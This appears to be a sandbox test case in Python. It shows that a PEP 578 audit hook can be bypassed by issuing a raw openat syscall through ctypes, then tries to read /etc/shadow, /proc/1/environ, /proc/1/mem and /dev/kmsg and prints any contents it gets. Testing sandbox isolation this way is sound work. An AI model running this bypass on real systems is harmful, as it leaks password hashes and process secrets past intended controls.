# technique: a system call by ctypes, which no audit hook hears
# source: PEP 578, "audit hooks are not a sandbox"; CVE-2022-42919 discussions
# verdict: WA
# invariant: the audit hook is advice; the file stays closed
# without: seccomp capabilities network read_only_root
import ctypes, sys

def never(event, arguments):
    if event in ("open", "os.system", "os.exec", "socket.connect"):
        raise RuntimeError(event)

libc = ctypes.CDLL(None, use_errno=True)
sys.addaudithook(never)
for path in (b"/etc/shadow", b"/proc/1/environ", b"/proc/1/mem", b"/dev/kmsg"):
    descriptor = libc.syscall(257, -100, path, 0, 0)
    if descriptor >= 0:
        buffer = ctypes.create_string_buffer(4096)
        libc.read(descriptor, buffer, 4096)
        print("ESCAPED", path, buffer.value[:500])
    else:
        print("held", path, ctypes.get_errno())
